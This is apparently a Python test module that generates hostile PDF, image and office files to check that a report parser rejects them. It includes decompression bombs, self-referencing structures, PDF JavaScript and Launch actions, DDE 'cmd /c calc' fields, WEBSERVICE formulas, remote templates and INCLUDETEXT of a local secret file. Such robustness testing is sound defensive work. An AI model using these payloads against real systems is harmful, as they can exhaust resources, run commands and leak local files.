"""Attacks by documents: PDF, pictures, workbooks, Word, and what LibreOffice is given to read."""

from __future__ import annotations

import io
import struct
import zlib
from typing import TYPE_CHECKING

from tests.archive.pdfs import one_page, raw, stream
from tests.archive.word_made import docx, p, r, zipped
from tests.gallery.files.reading import WITHIN, carried_out
from tests.gallery.frame import Attack

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

    Make = Callable[[str, Path], bytes]

PDFS, PICTURES, OFFICE = "Files: PDF", "Files: pictures", "Files: office documents"
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Pages/Kids[%s]/Count %d>>"
LEAF = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"
W = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"") -> Make:
    """A PDF of objects from number 2 on."""
    return lambda *_: raw(dict(enumerate((CATALOG % catalog, *objects), 1)), trailer=trailer)


def deep_pages(*_: object) -> bytes:
    objects = {1: CATALOG % b""} | {at: PAGES % (b"%d 0 R" % (at + 1), 1) for at in range(2, 20_000)}
    return raw(objects | {20_000: LEAF % b""})


def many_pages(*_: object) -> bytes:
    return raw({1: CATALOG % b"", 2: PAGES % (b"3 0 R " * 100_000, 100_000), 3: LEAF % b""})


def chained_filters(*_: object) -> bytes:
    content = bytes(64 << 20)
    for _ in range(3):
        content = zlib.compress(content, 9)
    return raw({1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R",
                4: stream(content, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")})


def crossed(*_: object) -> bytes:
    """Its cross-reference table says that the one before it is itself."""
    data = raw({1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b""})
    return data.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % data.rindex(b"xref\n0"))


def acting(url: str, secret: Path) -> bytes:
    """What would run or ask when it is opened."""
    actions = (f"/OpenAction<</S/JavaScript/JS(this.submitForm('{url}');app.launchURL('{url}'))>>/AA<</WC<</S/URI/URI({url})>>>>"
               f"/AcroForm<</XFA(<x href='{url}'/>)/Fields[]>>").encode()
    page = b"/AA<</O<</S/Launch/F(%s)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(%s)>>>>]" % (str(secret).encode(), url.encode())
    return raw({1: CATALOG % actions, 2: PAGES % (b"3 0 R", 1), 3: LEAF % page})


def carrying(*_: object) -> bytes:
    """A PDF with an embedded file that is a bomb."""
    names = b"/Names<</EmbeddedFiles<</Names[(a.txt)<</Type/Filespec/F(../../a.txt)/EF<</F 4 0 R>>>>]>>>>"
    return raw({1: CATALOG % names, 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"", 4: stream(zlib.compress(bytes(100 << 20), 9), b"/Filter/FlateDecode")})


def png(wide: int, high: int, data: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def texts_of_png(*_: object) -> bytes:
    data = png(10, 10, zlib.compress(bytes(110)))
    content = b"a\x00\x00" + zlib.compress(bytes(100 << 20), 9)
    text = struct.pack(">I", len(content)) + b"zTXt" + content + struct.pack(">I", zlib.crc32(b"zTXt" + content))
    return data[:33] + text + data[33:]


def tiff(*tags: tuple[int, int, int, int], after: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", after) + bytes(64)


SMALL_TIFF = ((256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (278, 3, 1, 8), (279, 4, 1, 64))


def jpeg_lies(*_: object) -> bytes:
    """A small picture that says 65,500 by 65,500."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (16, 16)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def moving(*_: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("P", (4, 4), at % 2) for at in range(2_000)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def pictured(*_: object) -> bytes:
    drawing = ('<w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
               f'xmlns:o="{W}" o:embed="r1"/></w:drawing>')
    return docx(p(r("某镇2020年政府信息公开年度报告")) + p(f"<w:r>{drawing}</w:r>"), links={"r1": ("image", "media/a.png")},
                parts={"word/media/a.png": png(60_000, 60_000, zlib.compress(bytes(60_000_000), 9))})


def sheet(cells: str, *, more: Mapping[str, str] | None = None) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    return zipped({
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                               f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
                               f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>',
        "_rels/.rels": rels.format(f'<Relationship Id="r1" Type="{W}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook xmlns="{space}" xmlns:r="{W}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels.format(f'<Relationship Id="r1" Type="{W}/worksheet" Target="worksheets/sheet1.xml"/>'),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{space}"><sheetData>{cells}</sheetData></worksheet>', **(more or {})})


def far(*_: object) -> bytes:
    return sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')


def asking(url: str, secret: Path) -> bytes:
    cells = f'<row r="1"><c r="A1"><f>WEBSERVICE("{url}")</f><v>1</v></c><c r="B1"><f>cmd|"/c calc"!A0</f><v>2</v></c></row>'
    return sheet(cells, more={"xl/externalLinks/externalLink1.xml": f"<a>{secret}</a>"})


def rtf(inside: str) -> Make:
    def make(url: str, secret: Path) -> bytes:
        return ("{\\rtf1\\ansi " + inside.replace("URL", url).replace("SECRET", str(secret)) + "}").encode()

    return make


def templated(url: str, _: Path) -> bytes:
    """A docx that LibreOffice would read if it were asked to: a template, a frame and a picture at a server."""
    rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{W}/attachedTemplate" Target="{url}" TargetMode="External"/>'
            f'<Relationship Id="r2" Type="{W}/oleObject" Target="mhtml:{url}!x-usc:{url}" TargetMode="External"/></Relationships>')
    return docx(p(r("2020")), parts={"word/_rels/settings.xml.rels": rels, "word/_rels/document.xml.rels": rels, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})


def word_2003(url: str, secret: Path) -> bytes:
    return (f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
            f'<w:docPr><w:attachedTemplate w:val="{url}"/></w:docPr><w:body><w:p><w:r><w:instrText>INCLUDEPICTURE "{url}"</w:instrText></w:r>'
            f'<w:r><w:instrText>INCLUDETEXT "{secret}"</w:instrText><w:t>2020</w:t></w:r></w:p></w:body></w:wordDocument>').encode()


def lzw_zeros(megabytes: int) -> bytes:
    """LZW (ISO 32000-1, 7.4.4) of so many megabytes of zeros: each code stands for one byte more than the one before."""
    bits, held, out, wide, following = 0, 0, bytearray(), 9, 258
    made = 0

    def put(code: int) -> None:
        nonlocal bits, held
        held, bits = held << wide | code, bits + wide
        while bits >= 8:
            bits -= 8
            out.append(held >> bits & 255)
        held &= (1 << bits) - 1

    put(256)
    while made < megabytes << 20:
        length = 1 if following == 258 else following - 257
        put(0 if length == 1 else following - 1)
        made, following = made + length, following + 1
        wide = 9 + (following > 510) + (following > 1022) + (following > 2046)
        if following >= 4094:
            put(256)
            wide, following = 9, 258
    put(257)
    return bytes(out) + bytes([held << (8 - bits) & 255])


def fonts(kind: bytes) -> bytes:
    """A page whose font refers to itself."""
    return raw({1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>",
                4: stream(b"BT /F 9 Tf 9 9 Td (2020) Tj ET"), 5: kind})


NESTED = {at: stream(b"/X Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (at + 1)) for at in range(5, 25)}
OF_PDF = tuple(Attack(name, PDFS, tries, expected, make, WITHIN) for name, tries, expected, make in (
    ("pdf-pages-loop", "a tree of pages that is its own child", ("`unreadable`", "broken PDF: none of its pages can be loaded"), pdf(PAGES % (b"2 0 R", 5))),
    ("pdf-pages-deep", "a tree of pages 20,000 deep", ("`unreadable`", "broken PDF: none of its pages can be loaded"), deep_pages),
    ("pdf-pages-many", "100,000 pages", ("`unreadable`", "a PDF of 100000 pages", "the limit is 1000"), many_pages),
    ("pdf-pages-lie", "one page where the tree says 2^31 - 1", ("`not-a-report`", "the document is empty"), pdf(PAGES % (b"3 0 R", 2**31 - 1), LEAF % b"")),
    ("pdf-form-loop", "a form that draws itself", ("`not-a-report`", "the document is empty"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>", 4: stream(b"/X Do"),
        5: stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")})),
    ("pdf-form-laughs", "20 forms, each of which draws the next 20 times", ("`unreadable`", "the process that read it ended by SIGABRT", "its memory is limited"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>", 4: stream(b"/X Do"),
        **NESTED, 25: stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")})),
    ("pdf-flate-bomb", "a page's content of 64 MB in 200 bytes: three times packed", ("`not-a-report`", "the document is empty"), chained_filters),
    ("pdf-lzw-bomb", "a page's content of 64 MB by LZW", ("`not-a-report`", "the document is empty"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R", 4: stream(lzw_zeros(64), b"/Filter/LZWDecode")})),
    ("pdf-font-descendant", "a font that is its own descendant", ("`not-a-report`", "neither title nor tables nor sections of a report"),
     lambda *_: fonts(b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 5 0 R>>")),
    ("pdf-font-glyph", "a font whose letters are drawn with that font", ("`not-a-report`", "the document is empty"),
     lambda *_: raw({1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>",
                     4: stream(b"BT /F 9 Tf 9 9 Td (22) Tj ET"), 6: stream(b"BT /F 9 Tf (22) Tj ET"),
                     5: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[50/a]>>"
                        b"/FirstChar 50/LastChar 50/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>"})),
    ("pdf-object-loop", "an object that is a reference to itself, as a page's content and size", ("`not-a-report`", "the document is empty"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: b"<</Type/Page/Parent 2 0 R/MediaBox 4 0 R/Contents 4 0 R/Rotate 4 0 R>>", 4: b"4 0 R"})),
    ("pdf-object-stream-loop", "an object stream whose length stands in itself", ("`not-a-report`", "the document is empty"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: LEAF % b"/Contents 4 0 R",
        4: b"<</Type/ObjStm/N 1/First 4/Extends 4 0 R/Length 4 0 R>>\nstream\n5 0 4 0 R\nendstream"})),
    ("pdf-xref-loop", "a cross-reference table whose forerunner is itself", ("`not-a-report`", "the document is empty"), crossed),
    ("pdf-actions", "JavaScript, launching, links and forms that run when it is opened", ("`not-a-report`", "the document is empty"), acting),
    ("pdf-embedded", "an embedded file of 100 MB called ../../a.txt", ("`not-a-report`", "the document is empty"), carrying),
    ("pdf-media-box", "a page of 10^9 by 10^9 points", ("`not-a-report`", "the document is empty"), lambda *_: raw({
        1: CATALOG % b"", 2: PAGES % (b"3 0 R", 1), 3: b"<</Type/Page/Parent 2 0 R/MediaBox[-1e9 -1e9 1e9 1e9]>>"})),
    ("pdf-paths", "a page of 300,000 lines", ("`not-a-report`", "the document is empty"), lambda *_: one_page(b"0 0 m 9 9 l S\n" * 300_000, packed=True)),
    ("pdf-encrypted", "an encryption dictionary that refers to itself", ("`unreadable`", "encrypted PDF: it opens with a password only"),
     pdf(PAGES % (b"3 0 R", 1), LEAF % b"", b"<</Filter/Standard/V 4/R 4/Length 9999999/O 4 0 R/U 4 0 R/P 4 0 R>>", trailer=b"/Encrypt 4 0 R")),
))
OF_PICTURES = tuple(Attack(name, PICTURES, tries, expected, make, WITHIN) for name, tries, expected, make in (
    ("png-huge", "a PNG of 60,000 by 60,000 in 60 KB", ("`unreadable`", "Image size (3600000000"), lambda *_: png(60_000, 60_000, zlib.compress(bytes(60_000_000), 9))),
    ("png-lies", "a PNG of 2^31 - 1 by 2^31 - 1", ("`unreadable`", "Image size (4611686014132420609"), lambda *_: png(2**31 - 1, 2**31 - 1, b"")),
    ("png-text", "a PNG whose packed text has 100 MB", ("`unreadable`", "the picture is broken: Decompressed data too large for PngImagePlugin.MAX_TEXT_CHUNK"), texts_of_png),
    ("jpeg-lies", "a JPEG of 16 by 16 that says 65,500 by 65,500", ("`unreadable`", "Image size (4290250000"), jpeg_lies),
    ("gif-frames", "a GIF of 2,000 pictures", ("`not-a-report`", "the document is empty"), moving),
    ("tiff-loop", "a TIFF whose next page is itself", ("`not-a-report`", "the document is empty"), lambda *_: tiff(*SMALL_TIFF, after=8)),
    ("tiff-count", "a TIFF with a tag of 2^32 - 1 values", ("`not-a-report`", "the document is empty"), lambda *_: tiff(*SMALL_TIFF, (305, 2, 0xFFFFFFFF, 8))),
    ("docx-picture", "a docx with a picture of 60,000 by 60,000", ("`not-a-report`", "a report's title and no text of one", "1 picture not read"), pictured),
))
OF_OFFICE = tuple(Attack(name, OFFICE, tries, expected, make, WITHIN) for name, tries, expected, make in (
    ("xlsx-far", "a cell at XFD1048576, the last one that there is", ("`unreadable`", "the workbook asks for more memory or time than any report needs"), far),
    ("xlsx-asks", "formulas that ask a server and start a program, external links", ("`not-a-report`", "neither title nor tables nor sections of a report"), asking),
    ("docx-template", "a template and an object at a server, and macros", ("`not-a-report`", "neither title nor tables nor sections of a report"), templated),
    ("rtf-template", "a template at a server", ("`not-a-report`", "neither title nor tables nor sections of a report"), rtf(r"{\*\template URL}2020")),
    ("rtf-picture", "INCLUDEPICTURE of a server and INCLUDETEXT of a file of this machine", ("`not-a-report`", "neither title nor tables nor sections of a report"),
     rtf(r'{\field{\*\fldinst INCLUDEPICTURE "URL" \\d}{\fldrslt }}{\field{\*\fldinst INCLUDETEXT "SECRET"}{\fldrslt }}{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt }}2020')),
    ("rtf-object", "an object that links to a server and updates itself", ("`not-a-report`", "neither title nor tables nor sections of a report"), rtf(r"{\object\objautlink\objupdate{\*\objclass htmlfile}{\*\objdata 0105}{\result 2020}}URL")),
    ("rtf-depth", "30,000 groups inside one another", ("`unreadable`", "LibreOffice cannot read it"), rtf("{" * 30_000 + "1")),
    ("doc-2003-asks", "Word 2003 XML with a template, a picture and a text elsewhere", ("`not-a-report`", "neither title nor tables nor sections of a report"), word_2003),
))
ATTACKS = OF_PDF + OF_PICTURES + OF_OFFICE


def obtained(folder: Path) -> Mapping[str, str]:
    return carried_out(ATTACKS, folder)
